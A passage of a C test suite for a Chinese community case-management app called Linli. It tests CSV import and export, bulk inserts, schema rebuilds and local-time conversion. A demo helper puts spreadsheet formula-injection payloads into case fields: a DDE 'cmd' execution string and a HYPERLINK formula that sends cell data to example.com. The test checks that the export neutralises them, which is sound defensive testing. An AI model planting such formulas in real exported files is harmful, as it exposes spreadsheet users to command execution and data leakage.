                                                           g_date_time_get_hour (local), minute,
                                                           g_date_time_get_second (local), &time));
          g_assert_cmpint (time, ==, g_date_time_to_unix (expected));
        }
      /* Every quarter of an hour a wall clock can show in 2021, those
       * skipped and those shown twice included. */
      for (int doy = 0; doy < 365; doy++)
        for (int quarter = 0; quarter < 96; quarter++)
          {
            g_autoptr(GDateTime) new_year = g_date_time_new_utc (2021, 1, 1, 0, 0, 0);
            g_autoptr(GDateTime) day = g_date_time_add_days (new_year, doy);
            int month = g_date_time_get_month (day), mday = g_date_time_get_day_of_month (day);
            g_autoptr(GDateTime) expected = g_date_time_new (zone, 2021, month, mday, quarter / 4, quarter % 4 * 15, 0);

            g_assert_true (linli_record_sql_unix_from_local (zone, 2021, month, mday, quarter / 4, quarter % 4 * 15, 0, &time));
            g_assert_cmpint (time, ==, g_date_time_to_unix (expected));
          }
      for (int year = 1900; year <= 2999; year++)
        for (int month = 1; month <= 12; month++)
          {
            int day = 1 + (year * 7 + month) % 28;
            g_autoptr(GDateTime) expected = g_date_time_new (zone, year, month, day, 2, 30, 0);

            g_assert_true (linli_record_sql_unix_from_local (zone, year, month, day, 2, 30, 0, &time));
            g_assert_cmpint (time, ==, g_date_time_to_unix (expected));
          }
      g_assert_false (linli_record_sql_unix_from_local (zone, 1899, 12, 31, 23, 59, 59, &time));
      g_assert_false (linli_record_sql_unix_from_local (zone, 3000, 1, 1, 0, 0, 0, &time));
      g_assert_false (linli_record_sql_unix_from_local (zone, 2026, 2, 29, 0, 0, 0, &time));
      g_assert_false (linli_record_sql_unix_from_local (zone, 2026, 1, 5, 24, 0, 0, &time));
    }
}

/* The indexes and triggers of the file, as their SQL: what the bulk
 * drops and makes again. */
static char *
schema_text (LinliStore *store)
{
  g_autoptr(sqlite3_stmt) stmt = NULL;
  GString *out = g_string_new (NULL);

  g_assert_cmpint (sqlite3_prepare_v2 (linli_store_get_db (store),
                                       "SELECT type, name, tbl_name, sql FROM sqlite_schema"
                                       " WHERE type IN ('index', 'trigger') ORDER BY name",
                                       -1, &stmt, NULL), ==, SQLITE_OK);
  while (sqlite3_step (stmt) == SQLITE_ROW)
    g_string_append_printf (out, "%s %s %s %s\n", sqlite3_column_text (stmt, 0), sqlite3_column_text (stmt, 1),
                            sqlite3_column_text (stmt, 2), sqlite3_column_text (stmt, 3));
  return g_string_free (out, FALSE);
}

static gint64
query_int (LinliStore *store,
           const char *sql)
{
  g_autoptr(sqlite3_stmt) stmt = NULL;

  g_assert_cmpint (sqlite3_prepare_v2 (linli_store_get_db (store), sql, -1, &stmt, NULL), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_ROW);
  return sqlite3_column_int64 (stmt, 0);
}

static gint64
search_stamp (LinliStore *store)
{
  return query_int (store, "SELECT stamp FROM search_stamp");
}

/* Every index agrees with its table, row for row. */
static void
assert_intact (LinliStore *store)
{
  g_autoptr(sqlite3_stmt) stmt = NULL;

  g_assert_cmpint (sqlite3_prepare_v2 (linli_store_get_db (store), "PRAGMA integrity_check", -1, &stmt, NULL),
                   ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_ROW);
  g_assert_cmpstr ((const char *) sqlite3_column_text (stmt, 0), ==, "ok");
}

/* Writes a case through @bulk: the @index-th of 2026, in @grid (0 for
 * none), assigned when @index is odd. */
static void
bulk_insert_case (LinliCaseBulk *bulk,
                  guint          index,
                  gint64         grid)
{
  g_autofree char *number = g_strdup_printf ("2026-%04u", index + 1);
  g_autoptr(GError) error = NULL;
  LinliCaseValues values;
  gint64 id;

  linli_case_values_init (&values);
  values.number = number;
  values.title = "楼道灯不亮";
  values.category = "其他";
  values.source = "居民来电";
  values.reported_at = unix_time (2026, 2, 1, 9, 30) + 3600 * index;
  values.grid_id = grid;
  values.status = index % 2 ? LINLI_CASE_STATUS_ASSIGNED : LINLI_CASE_STATUS_REGISTERED;
  g_assert_true (linli_case_bulk_insert (bulk, &values, &id, &error));
  g_assert_no_error (error);
}

/* The file is as it was: its indexes and triggers (@schema), its search
 * stamp (@stamp), no case and no timeline, every index whole. */
static void
assert_as_before (Fixture    *f,
                  const char *schema,
                  gint64      stamp)
{
  g_autofree char *now = schema_text (f->store);

  g_assert_cmpstr (now, ==, schema);
  g_assert_cmpint (search_stamp (f->store), ==, stamp);
  g_assert_cmpuint (linli_store_count (f->store, LINLI_TYPE_CASE), ==, 0);
  g_assert_cmpuint (linli_store_count (f->store, LINLI_TYPE_DIARY_ENTRY), ==, 0);
  assert_intact (f->store);
}

/* Inside the batch, the bulk has dropped the stamp's insert trigger, and
 * the indexes of the cases and timelines when it at least doubles the
 * cases; its end makes them all again, and renews the stamp once. */
static void
test_bulk_schema (Fixture       *f,
                  gconstpointer  data)
{
  g_autofree char *schema = schema_text (f->store);
  g_autoptr(GError) error = NULL;

  /* Once into no cases, building the indexes after them; once more into
   * those, keeping them case by case. */
  for (guint round = 0; round < 2; round++)
    {
      g_autoptr(LinliCaseBulk) bulk = NULL;
      g_autofree char *during = NULL;
      g_autofree char *after = NULL;
      gint64 stamp = search_stamp (f->store);
      guint n_cases = round == 0 ? 3 : 1;

      g_assert_true (linli_store_begin_batch (f->store, &error));
      bulk = linli_case_bulk_begin (f->store, n_cases, NULL, &error);
      g_assert_no_error (error);
      during = schema_text (f->store);
      g_assert_null (strstr (during, "search_stamp_case_inserted"));
      g_assert_nonnull (strstr (during, "search_stamp_case_updated"));
      g_assert_nonnull (strstr (during, "sqlite_autoindex_case_record_1"));
      if (round == 0)
        {
          g_assert_null (strstr (during, "case_by_reported"));
          g_assert_null (strstr (during, "case_event_by_case"));
        }
      else
        {
          g_assert_nonnull (strstr (during, "case_by_reported"));
          g_assert_nonnull (strstr (during, "case_event_by_case"));
        }
      /* Only the end renews the stamp. */
      for (guint i = 0; i < n_cases; i++)
        bulk_insert_case (bulk, 10 * round + i, f->grid1);
      g_assert_cmpint (search_stamp (f->store), ==, stamp);
      g_assert_true (linli_case_bulk_end (bulk, &error));
      g_assert_no_error (error);
      g_assert_true (linli_store_commit (f->store, &error));
      g_assert_no_error (error);

      after = schema_text (f->store);
      g_assert_cmpstr (after, ==, schema);
      g_assert_cmpint (search_stamp (f->store), !=, stamp);
      assert_intact (f->store);
      g_assert_cmpint (query_int (f->store, "SELECT count(*) FROM case_record INDEXED BY case_by_reported"
                                            " WHERE reported_at > '2000'"), ==, round == 0 ? 3 : 4);
      g_assert_cmpint (query_int (f->store, "SELECT count(*) FROM case_event INDEXED BY case_event_by_case"
                                            " WHERE case_id > 0"), ==, round == 0 ? 3 : 4);
      g_assert_cmpint (query_int (f->store, "SELECT count(*) FROM case_record INDEXED BY case_open_counts"
                                            " WHERE status = 'registered' OR status = 'assigned' OR status = 'in-progress'"
                                            " OR status = 'escalated' OR status = 'suspended'"),
                       ==, round == 0 ? 3 : 4);
    }
}

/* A batch rolled back leaves the file as it was: the indexes and trigger
 * the bulk dropped, the cases, the stamp. */
static void
test_bulk_rollback (Fixture       *f,
                    gconstpointer  data)
{
  g_autofree char *schema = schema_text (f->store);
  g_autoptr(LinliCaseBulk) bulk = NULL;
  g_autoptr(GError) error = NULL;
  gint64 stamp = search_stamp (f->store);

  g_assert_true (linli_store_begin_batch (f->store, &error));
  bulk = linli_case_bulk_begin (f->store, 1, NULL, &error);
  g_assert_no_error (error);
  bulk_insert_case (bulk, 0, 0);
  g_assert_true (linli_case_bulk_end (bulk, &error));
  g_assert_cmpuint (linli_store_count (f->store, LINLI_TYPE_DIARY_ENTRY), ==, 1);
  linli_store_rollback (f->store);

  assert_as_before (f, schema, stamp);
}

/* Cancelled while it builds, the bulk fails as cancelled, and the batch
 * rolled back leaves the file as it was. */
static void
test_bulk_cancel (Fixture       *f,
                  gconstpointer  data)
{
  g_autofree char *schema = schema_text (f->store);
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(LinliCaseBulk) bulk = NULL;
  g_autoptr(GError) error = NULL;
  gint64 stamp = search_stamp (f->store);

  g_assert_true (linli_store_begin_batch (f->store, &error));
  bulk = linli_case_bulk_begin (f->store, 2000, cancellable, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < 2000; i++)
    bulk_insert_case (bulk, i, f->grid1);
  g_cancellable_cancel (cancellable);
  g_assert_false (linli_case_bulk_end (bulk, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  linli_store_rollback (f->store);

  assert_as_before (f, schema, stamp);
}

/* An import that fails on its last row, after the others were written,
 * leaves the indexes, the trigger and the stamp as they were; one that
 * succeeds, all of them with its cases. */
static void
test_import_schema (Fixture       *f,
                    gconstpointer  data)
{
  g_autofree char *schema = schema_text (f->store);
  g_autofree char *after = NULL;
  g_autoptr(GPtrArray) row_errors = NULL;
  g_autoptr(GError) error = NULL;
  gint64 stamp = search_stamp (f->store);
  guint n = 0;

  g_assert_false (import_text (f,
                               "标题,类别,登记时间,网格\n"
                               "楼道灯不亮,其他,2026-01-05 09:30,第一网格\n"
                               "水管漏水,其他,2026-01-06 09:30,没有这个网格\n",
                               &row_errors, &n, &error));
  g_assert_nonnull (error);
  assert_as_before (f, schema, stamp);

  import_ok (f,
             "标题,类别,登记时间,网格\n"
             "楼道灯不亮,其他,2026-01-05 09:30,第一网格\n"
             "水管漏水,其他,2026-01-06 09:30,第二网格\n",
             2);
  after = schema_text (f->store);
  g_assert_cmpstr (after, ==, schema);
  g_assert_cmpint (search_stamp (f->store), !=, stamp);
  assert_intact (f->store);
}

/* An import writes what linli_store_insert() writes for the records the
 * file describes, its new reporters first: every column, every timeline
 * entry, the same changes told. */
static void
test_import_same_as_insert (Fixture       *f,
                            gconstpointer  data)
{
  static const char text[] =
    "编号,标题,描述,类别,子类别,来源,反映人,联系电话,楼栋,地址,网格,紧急程度,网格员,责任单位,"
    "登记时间,办理时限,状态,办结层级,办理结果,办结时间,满意度,回访时间,回访情况,重复于\n"
    "2026-0001,卫生间漏水,\"居民反映：\"\"漏水\"\"严重, 渗到楼下。\n已联系物业\",水电维修,漏水,居民来电,"
    "赵桂英,13900001111,1号楼,1单元3楼西户,,High,张伟,物业,"
    "2026-02-03 09:05,2026-02-04 09:05,Revisited,Within the grid,更换水管,2026-02-03 16:40,满意,2026/2/5 10:00,满意,\n"
    "2026-0002,电梯停运,,公共设施,,网格巡查,王大爷,13812341234,2号楼,,第一网格,urgent,王芳,,"
    "2026年2月3日 10时30分,,assigned,,,,,,,\n"
    ",路灯不亮,,公共设施,,其他,,,,,,,,,2026-01-05 09:30,,,,,,,,,\n"
    "2026-0003, 楼道灯又不亮\xE3\x80\x80,,公共设施,,居民来电,\xE3\x80\x80赵桂英, 13900001111 ,,,第二网格,Low,,,"
    "2026-02-03 11:00,,重复,,,,,,,2026-0001\n";
  Fixture other = { 0, }, *g = &other;
  g_autoptr(GPtrArray) log_f = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GPtrArray) log_g = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GError) error = NULL;
  g_autoptr(LinliRecord) reporter = linli_record_new (LINLI_TYPE_RESIDENT);
  g_autoptr(LinliRecord) leak = new_case ("2026-0001", "卫生间漏水");
  g_autoptr(LinliRecord) lift = new_case ("2026-0002", "电梯停运");
  g_autoptr(LinliRecord) lamp = new_case ("2026-0004", "路灯不亮");
  g_autoptr(LinliRecord) again = new_case ("2026-0003", "楼道灯又不亮");

  fixture_set_up (g, NULL);
  g_signal_connect (f->store, "changed", G_CALLBACK (log_change), log_f);
  g_signal_connect (g->store, "changed", G_CALLBACK (log_change), log_g);

  import_ok (f, text, 4);

  /* The same by hand, in one batch as an import writes. */
  g_assert_true (linli_store_begin_batch (g->store, &error));
  linli_record_set_text (reporter, "name", "赵桂英");
  linli_record_set_text (reporter, "phone", "13900001111");
  insert (g->store, reporter);

  linli_record_set_text (leak, "description", "居民反映：\"漏水\"严重, 渗到楼下。\n已联系物业");
  linli_record_set_text (leak, "subcategory", "漏水");
  linli_record_set_int (leak, "reporter_id", linli_record_get_id (reporter));
  linli_record_set_int (leak, "building_id", g->building1);
  linli_record_set_text (leak, "address", "1单元3楼西户");
  linli_record_set_double (leak, "lat", 35.401);
  linli_record_set_double (leak, "lon", 116.581);
  linli_record_set_int (leak, "grid_id", g->grid1);
  linli_record_set_enum (leak, "urgency", LINLI_URGENCY_HIGH);
  linli_record_set_int (leak, "worker_id", g->zhang);
  linli_record_set_text (leak, "responsible_unit", "物业");
  set_time (leak, "due_at", 2026, 2, 4, 9, 5);
  linli_record_set_enum (leak, "status", LINLI_CASE_STATUS_REVISITED);
  linli_record_set_enum (leak, "resolution_level", LINLI_RESOLUTION_LEVEL_GRID);
  linli_record_set_text (leak, "resolution", "更换水管");
  set_time (leak, "resolved_at", 2026, 2, 3, 16, 40);
  linli_record_set_enum (leak, "satisfaction", LINLI_SATISFACTION_SATISFIED);
  set_time (leak, "revisited_at", 2026, 2, 5, 10, 0);
  linli_record_set_text (leak, "revisit_notes", "满意");
  insert (g->store, leak);

  /* A building of the second grid, in the first by hand. */
  linli_record_set_text (lift, "category", "公共设施");
  linli_record_set_text (lift, "source", "网格巡查");
  linli_record_set_int (lift, "reporter_id", g->resident);
  linli_record_set_int (lift, "building_id", g->building2);
  linli_record_set_double (lift, "lat", 35.402);
  linli_record_set_double (lift, "lon", 116.582);
  linli_record_set_int (lift, "grid_id", g->grid1);
  linli_record_set_bool (lift, "grid_overridden", TRUE);
  linli_record_set_enum (lift, "urgency", LINLI_URGENCY_URGENT);
  linli_record_set_int (lift, "worker_id", g->wang1);
  set_time (lift, "reported_at", 2026, 2, 3, 10, 30);
  linli_record_set_enum (lift, "status", LINLI_CASE_STATUS_ASSIGNED);
  insert (g->store, lift);

  /* The next free number, after those the file gives. */
  linli_record_set_text (lamp, "category", "公共设施");
  linli_record_set_text (lamp, "source", "其他");
  set_time (lamp, "reported_at", 2026, 1, 5, 9, 30);
  insert (g->store, lamp);

  linli_record_set_text (again, "category", "公共设施");
  linli_record_set_int (again, "reporter_id", linli_record_get_id (reporter));
  linli_record_set_int (again, "grid_id", g->grid2);
  linli_record_set_enum (again, "urgency", LINLI_URGENCY_LOW);
  set_time (again, "reported_at", 2026, 2, 3, 11, 0);
  linli_record_set_enum (again, "status", LINLI_CASE_STATUS_DUPLICATE);
  linli_record_set_int (again, "duplicate_of", linli_record_get_id (leak));
  insert (g->store, again);
  g_assert_true (linli_store_commit (g->store, &error));
  g_assert_no_error (error);

  assert_same_tables (f->store, g->store);
  {
    g_autofree char *told_f = take_log (log_f);
    g_autofree char *told_g = take_log (log_g);
    g_assert_cmpstr (told_f, ==, told_g);
    /* A batch of several is one reset per table. */
    g_assert_nonnull (strstr (told_f, "LinliCase 3 0\n"));
    g_assert_nonnull (strstr (told_f, "LinliDiaryEntry 3 0\n"));
  }

  fixture_tear_down (g, NULL);
}

/* ------------------------------------------------------------------------ */
/* Moving a community to another computer                                  */

static gboolean
write_full_export_cb (GOutputStream  *out,
                      gpointer        user_data,
                      GCancellable   *cancellable,
                      GError        **error)
{
  LinliStore *store = user_data;
  g_autoptr(GListModel) cases = linli_store_list (store, LINLI_TYPE_CASE);

  return linli_case_csv_export (store, cases, FALSE, out, cancellable, error);
}

static void
delete_all (LinliStore *store,
            GType       type)
{
  g_autoptr(GListModel) list = linli_store_list (store, type);
  g_autoptr(GPtrArray) records = g_ptr_array_new_with_free_func (g_object_unref);
  g_autoptr(GError) error = NULL;

  for (guint i = 0; i < g_list_model_get_n_items (list); i++)
    g_ptr_array_add (records, g_list_model_get_item (list, i));
  for (guint i = 0; i < records->len; i++)
    {
      g_assert_true (linli_store_delete (store, g_ptr_array_index (records, i), &error));
      g_assert_no_error (error);
    }
  g_assert_cmpuint (linli_store_count (store, type), ==, 0);
}

/* The demo community with texts a spreadsheet would run, as residents type
 * them: the export neutralises them and the import gives them back. */
static LinliStore *
formula_demo (TestDatabase *db)
{
  g_autoptr(GDateTime) today = test_now ();
  g_autoptr(GListModel) cases = NULL;
  g_autoptr(GError) error = NULL;
  const char *texts[][2] = {
    { "title", "=HYPERLINK(\"http://example.com/?\"&A1,\"点我\")" },
    { "description", "+cmd|' /C calc'!A0" },
    { "address", "@SUM(1+1)" },
    { "resolution", "-2+3" },
    { "revisit_notes", "'=不是公式" },
  };

  test_database_open (db, "linli-case-csv-demo");
  g_assert_true (linli_demo_populate (db->store, today, &error));
  g_assert_no_error (error);
  cases = linli_store_list (db->store, LINLI_TYPE_CASE);
  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
    {
      g_autoptr(LinliRecord) record = g_list_model_get_item (cases, i * 7);

      linli_record_set_text (record, texts[i][0], texts[i][1]);
      g_assert_true (linli_store_update (db->store, record, &error));
      g_assert_no_error (error);
    }
  {
    g_autoptr(LinliRecord) record = g_list_model_get_item (cases, 3);
    g_autoptr(LinliRecord) reporter = linli_store_get (db->store, LINLI_TYPE_RESIDENT,
                                                       linli_record_get_int (record, "reporter_id"), NULL);

    g_assert_nonnull (reporter);
    linli_record_set_text (reporter, "name", "=王芳");
    g_assert_true (linli_store_update (db->store, reporter, &error));
    g_assert_no_error (error);
  }
  return db->store;
}

static char *
reporter_of (LinliStore  *store,
             LinliRecord *record)
{
  gint64 id = linli_record_get_int (record, "reporter_id");
  g_autoptr(LinliRecord) resident = id != 0 ? linli_store_get (store, LINLI_TYPE_RESIDENT, id, NULL) : NULL;

  if (resident == NULL)
    return NULL;
  return g_strdup_printf ("%s/%s", linli_record_get_text (resident, "name"),
                          linli_record_get_text (resident, "phone"));
}

static char *
value_text (const GValue *value)
{
  if (G_VALUE_HOLDS (value, G_TYPE_DATE_TIME))
    {
      GDateTime *time = g_value_get_boxed (value);
      return time != NULL ? g_date_time_format_iso8601 (time) : NULL;
    }
  return g_strdup_value_contents (value);
}

static char *
number_of (LinliStore *store,
           gint64      id)
{
  g_autoptr(LinliRecord) record = id != 0 ? linli_store_get (store, LINLI_TYPE_CASE, id, NULL) : NULL;

  return record != NULL ? g_strdup (linli_record_get_text (record, "number")) : NULL;
}

/* The whole demo community's cases, exported with their reporters and read
 * into a community with the same grids, workers and buildings and no cases,
 * come back the same, field by field.
 *
 * What a file of cases cannot carry, and so does not come back: the
 * 民情日记 timeline (an imported case has the one "registered" entry), the
 * seconds of times (a file has minutes; the demo's are whole minutes), a
 * resident's own address, and a case's own point on the map (a file has no
 * coordinates: the import puts a case at its building's point, or at none
 * without a building). Case ids are new;
 * reporters, duplicates, grids, workers and buildings are compared by what
 * they are, not by id. */
static void
test_full_export_demo (void)
{
  TestDatabase from = { 0 }, to = { 0 };
  g_autoptr(GFile) file = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(LinliCsvTable) table = NULL;
  g_autofree LinliCaseField *mapping = NULL;
  g_autoptr(GPtrArray) row_errors = NULL;
  g_autoptr(GListModel) originals = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GDateTime) today = test_now ();
  g_autofree char *path = NULL;
  guint n_columns, n = 0, n_compared = 0;
  const LinliColumn *columns;

  formula_demo (&from);
  originals = linli_store_list (from.store, LINLI_TYPE_CASE);
  g_assert_cmpuint (g_list_model_get_n_items (originals), >, 100);

  path = g_build_filename (from.dir, "cases-personal.csv", NULL);
  file = g_file_new_for_path (path);
  g_assert_true (linli_safe_file_write (file, LINLI_SAFE_FILE_PRIVATE, write_full_export_cb, from.store,
                                        NULL, &error));
  g_assert_no_error (error);
  bytes = g_file_load_bytes (file, NULL, NULL, &error);
  g_assert_no_error (error);
  g_remove (path);

  /* The formulas are not run by a spreadsheet. */
  {
    g_autofree char *text = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
    g_assert_nonnull (strstr (text, ",\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"点我\"\")\","));
    g_assert_nonnull (strstr (text, ",'+cmd|' /C calc'!A0,"));
    g_assert_nonnull (strstr (text, ",'@SUM(1+1),"));
    g_assert_nonnull (strstr (text, ",'-2+3,"));
    g_assert_nonnull (strstr (text, ",''=不是公式,"));
    g_assert_nonnull (strstr (text, ",'=王芳,"));
    g_assert_null (strstr (text, ",=王芳,"));
  }

  /* Another computer's community: the same grids, workers and buildings. */
  test_database_open (&to, "linli-case-csv-demo-to");
  g_assert_true (linli_demo_populate (to.store, today, &error));
  g_assert_no_error (error);
  delete_all (to.store, LINLI_TYPE_CASE);
  delete_all (to.store, LINLI_TYPE_RESIDENT);

  table = linli_csv_read (bytes, &error);
  g_assert_no_error (error);
  mapping = linli_case_csv_guess_mapping (table);
  g_assert_true (linli_case_csv_import (to.store, table, mapping, &row_errors, &n, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (row_errors->len, ==, 0);
  g_assert_cmpuint (n, ==, g_list_model_get_n_items (originals));
  g_assert_cmpuint (linli_store_count (to.store, LINLI_TYPE_CASE), ==, n);

  columns = linli_record_class_get_columns (g_type_class_peek (LINLI_TYPE_CASE), &n_columns);
  for (guint i = 0; i < g_list_model_get_n_items (originals); i++)
    {
      g_autoptr(LinliRecord) original = g_list_model_get_item (originals, i);
      const char *number = linli_record_get_text (original, "number");
      g_autoptr(LinliRecord) imported = case_by_number (to.store, number);

      g_assert_nonnull (imported);
      for (guint c = 0; c < n_columns; c++)
        {
          const char *name = columns[c].name;
          g_autofree char *a = NULL;
          g_autofree char *b = NULL;

          if (g_str_equal (name, "reporter_id"))
            {
              a = reporter_of (from.store, original);
              b = reporter_of (to.store, imported);
            }
          else if (g_str_equal (name, "duplicate_of"))
            {
              a = number_of (from.store, linli_record_get_int (original, name));
              b = number_of (to.store, linli_record_get_int (imported, name));
            }
          else if (g_str_equal (name, "lat") || g_str_equal (name, "lon"))
            continue;   /* not in a file: see above */
          else
            {
              a = value_text (linli_record_peek_value (original, c));
              b = value_text (linli_record_peek_value (imported, c));
            }
          if (g_strcmp0 (a, b) != 0)
            g_error ("%s: %s: exported %s, imported %s", number, name, a, b);
          n_compared++;
        }
    }
  g_assert_cmpuint (n_compared, ==, n * (n_columns - 2));

  test_database_close (&from);
  test_database_close (&to);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

#define ADD(path, func) \
  g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)

  ADD ("/case-csv/export", test_export);
  ADD ("/case-csv/export-masked", test_export_masked);
  ADD ("/case-csv/export-file-async", test_export_file_async);
  ADD ("/case-csv/round-trip", test_round_trip);
  ADD ("/case-csv/round-trip-shared-names", test_round_trip_shared_names);
  ADD ("/case-csv/guess-mapping", test_guess_mapping);
  ADD ("/case-csv/import/old-worker-header", test_import_old_worker_header);
  ADD ("/case-csv/import/gb18030", test_import_gb18030);
  ADD ("/case-csv/import/defaults", test_import_defaults);
  ADD ("/case-csv/import/labels", test_import_labels);
  ADD ("/case-csv/import/numbers", test_import_numbers);
  ADD ("/case-csv/import/duplicate-of-stored", test_import_duplicate_of_stored);
  ADD ("/case-csv/import/malformed", test_import_malformed);
  ADD ("/case-csv/import/duplicate-loop", test_import_duplicate_loop);
  ADD ("/case-csv/import/mapping-errors", test_import_mapping_errors);
  ADD ("/case-csv/import/times", test_import_times);
  ADD ("/case-csv/import/phones", test_import_phones);
  ADD ("/case-csv/import/empty", test_import_empty);
  ADD ("/case-csv/import/same-as-insert", test_import_same_as_insert);
  ADD ("/case-csv/bulk-insert/same-as-insert", test_bulk_insert_same);
  ADD ("/case-csv/bulk-insert/times", test_bulk_times);
  ADD ("/case-csv/import/unix-from-local", test_unix_from_local);
  ADD ("/case-csv/bulk-insert/schema", test_bulk_schema);
  ADD ("/case-csv/bulk-insert/rollback", test_bulk_rollback);
  ADD ("/case-csv/bulk-insert/cancel", test_bulk_cancel);
  ADD ("/case-csv/import/schema", test_import_schema);

#undef ADD

  g_test_add_func ("/case-csv/full-export/demo", test_full_export_demo);

  return g_test_run ();
}
